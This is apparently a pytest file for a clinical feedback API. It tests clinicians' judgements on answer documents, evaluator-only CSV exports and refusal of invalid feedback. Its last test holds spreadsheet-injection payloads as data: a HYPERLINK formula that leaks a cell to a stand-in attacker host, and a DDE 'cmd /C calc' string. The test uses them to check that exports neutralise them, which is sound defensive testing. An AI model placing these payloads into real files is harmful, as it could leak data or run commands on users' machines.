"""Feedback round trip: a clinician judges the documents of an answer, an evaluator exports it two ways, and
the evaluation-set export is read by `python -m research.evaluate`'s own parser."""

import csv
import io

from api.evaluator.queries import parse_csv
from api.models import Role
from api.settings import ApiSettings
from tests.api.conftest import SignIn
from tests.api.stored_answers import source, store_answer


def test_feedback_round_trip_and_both_exports(sign_in: SignIn, api_settings: ApiSettings) -> None:
    ann, eva = sign_in("ann", Role.clinician), sign_in("eva", Role.evaluator)
    conversation = ann.post("/api/conversations", json={}).json()["id"]
    sources = [
        source("doc-a", "Insuline", 3),
        source("doc-b", "Bloedafname", 1),
        source("doc-c", "Decubitus"),
    ]
    message = store_answer(api_settings.database_url, conversation, "insuline, waar spuiten?", sources)
    unjudged = store_answer(api_settings.database_url, conversation, "nog een vraag", sources[:1])

    judged_a = ann.put(
        f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": True, "highlight_correct": False}
    )
    ann.put(f"/api/messages/{message}/feedback/doc-b", json={"contains_answer": False})
    ann.put(
        f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": True, "highlight_correct": True}
    )
    assert (
        ann.put(f"/api/conversations/{conversation}/feedback", json={"answer_found": True}).status_code == 200
    )

    assert judged_a.status_code == 200
    assert judged_a.json()["highlight_correct"] is False
    shown = ann.get(f"/api/conversations/{conversation}").json()
    assert shown["answer_found"] is True
    assert {
        (f["document_id"], f["contains_answer"], f["highlight_correct"])
        for f in shown["messages"][0]["feedback"]
    } == {
        ("doc-a", True, True),
        ("doc-b", False, None),
    }

    export = eva.get("/api/evaluator/feedback.csv")
    assert export.status_code == 200
    assert export.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    judged = [
        (r["message_id"], r["rank"], r["document_id"], r["contains_answer"], r["highlight_correct"])
        for r in rows
    ]
    assert judged == [
        (str(message), "1", "doc-a", "ja", "ja"),
        (str(message), "2", "doc-b", "nee", ""),
        (str(message), "3", "doc-c", "", ""),
        (str(unjudged), "1", "doc-a", "", ""),  # the conversation's "antwoord gevonden?" applies to it
    ]
    assert {r["answer_found"] for r in rows} == {"ja"}

    labelled = parse_csv(eva.get("/api/evaluator/feedback-set.csv").text)
    assert [(q.id, q.question, q.relevant_documents) for q in labelled] == [
        (f"message-{message}", "insuline, waar spuiten?", ("doc-a",))
    ]


def test_feedback_on_a_document_not_shown_or_someone_elses_message_is_refused(
    sign_in: SignIn, api_settings: ApiSettings
) -> None:
    ann, bob = sign_in("ann", Role.clinician), sign_in("bob", Role.clinician)
    conversation = ann.post("/api/conversations", json={}).json()["id"]
    message = store_answer(api_settings.database_url, conversation, "vraag", [source("doc-a", "Insuline")])

    assert (
        ann.put(f"/api/messages/{message}/feedback/doc-z", json={"contains_answer": True}).status_code == 404
    )
    assert (
        bob.put(f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": True}).status_code == 404
    )
    assert (
        ann.put(f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": "misschien"}).status_code
        == 422
    )


def test_only_evaluators_export(sign_in: SignIn) -> None:
    ann = sign_in("ann", Role.clinician, Role.admin)

    assert ann.get("/api/evaluator/feedback.csv").status_code == 403
    assert ann.get("/api/evaluator/feedback-set.csv").status_code == 403


FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'


def test_formulas_in_questions_and_titles_export_inert_and_read_back_as_asked(
    sign_in: SignIn, api_settings: ApiSettings
) -> None:
    """A spreadsheet opening an export must not run what a user typed (or a PDF's title says)."""
    ann, eva = sign_in("ann", Role.clinician), sign_in("eva", Role.evaluator)
    conversation = ann.post("/api/conversations", json={}).json()["id"]
    sources = [source("doc-a", "@SUM(1+1)*cmd|' /C calc'!A0", 3), source("doc-b", "\tTab", 1)]
    message = store_answer(api_settings.database_url, conversation, FORMULA, sources)
    ann.put(f"/api/messages/{message}/feedback/doc-a", json={"contains_answer": True})

    feedback_rows = list(csv.DictReader(io.StringIO(eva.get("/api/evaluator/feedback.csv").text)))
    feedback_set = eva.get("/api/evaluator/feedback-set.csv").text
    set_rows = list(csv.DictReader(io.StringIO(feedback_set)))

    assert {row["question"] for row in feedback_rows} == {"'" + FORMULA}
    assert [row["title"] for row in feedback_rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'\tTab"]
    assert [row["question"] for row in set_rows] == ["'" + FORMULA]
    assert [query.question for query in parse_csv(feedback_set)] == [FORMULA]
